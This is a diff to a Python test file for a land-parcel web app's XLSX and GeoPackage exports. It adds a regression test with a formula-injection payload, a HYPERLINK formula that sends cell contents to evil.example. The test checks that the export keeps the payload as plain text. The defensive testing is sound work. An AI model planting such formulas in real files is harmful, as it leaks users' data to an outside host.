@@ -158,18 +158,20 @@ def test_export_xlsx_and_gpkg(sessions, seeded, tmp_path):
     assert resp.status_code == 200
     path = tmp_path / "d.xlsx"
     path.write_bytes(resp.content)
-    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
-    assert rows[1][:2] == ("candidate_id", "parcel_code")
-    assert {r[4] for r in rows[2:]} == {"甲镇"} and len(rows) - 2 == 10
+    book = openpyxl.load_workbook(path)
+    rows = list(book.worksheets[0].iter_rows(values_only=True))
+    assert rows[0][:2] == ("候选编号", "宗地代码")
+    assert {r[4] for r in rows[1:]} == {"甲镇"} and len(rows) - 1 == 10
+    explained = list(book["字段说明"].iter_rows(values_only=True))
+    assert ("候选编号", "candidate_id", "candidate id") in explained
     # the codes in words, from the vocabulary
     from scoring.land_status.vocabulary import KINDS, STATUSES
 
-    names = dict(zip(rows[1], rows[0], strict=True))
-    assert names["kind_name"] == "类型名称"
-    header = rows[1]
-    for r in rows[2:]:
-        assert r[header.index("kind_name")] == KINDS.label(r[header.index("kind")])
-        assert r[header.index("status_name")] == STATUSES.label(r[header.index("status")])
+    header = [dict((z, c) for z, c, _ in explained).get(h, h) for h in rows[0]]
+    assert "kind_name" in header and rows[0][header.index("kind_name")] == "类型名称"
+    for row in rows[1:]:
+        assert row[header.index("kind_name")] == KINDS.label(row[header.index("kind")])
+        assert row[header.index("status_name")] == STATUSES.label(row[header.index("status")])
     resp = s.get("/api/export.gpkg", params={"kind": "built_unused"})
     assert resp.status_code == 200
     gpkg = tmp_path / "d.gpkg"
@@ -180,6 +182,30 @@ def test_export_xlsx_and_gpkg(sessions, seeded, tmp_path):
     assert frame.crs.to_epsg() == 4549
     assert sessions["viewer_east"].get("/api/export.xlsx").status_code == 403
     assert sessions["tech_east"].get("/api/export.gpkg").status_code == 403
+
+
+def test_export_xlsx_keeps_a_formula_comment_as_text(sessions, seeded, tmp_path):
+    """Finding 11: a comment starting with '=' is a string cell, never a live formula."""
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    s = sessions["off_east"]
+    cid = seeded["东区"][-1]
+    d = s.get(f"/api/candidates/{cid}").json()
+    status = "under_review" if "under_review" in d["allowed"] else d["allowed"][0]
+    resp = s.post(f"/api/candidates/{cid}/decision",
+                  json={"status": status, "version": d["version"], "comment": hostile,
+                        **({"reason": "in_use"} if status == "rejected" else {})})
+    assert resp.status_code == 200, resp.text
+    resp = s.get("/api/export.xlsx")
+    assert resp.status_code == 200
+    path = tmp_path / "d.xlsx"
+    path.write_bytes(resp.content)
+    ws = openpyxl.load_workbook(path).worksheets[0]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
+    assert cells, "the comment is in the export"
+    assert all(c.data_type == "s" for c in cells)
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
 
 
 def test_me_and_options(sessions):
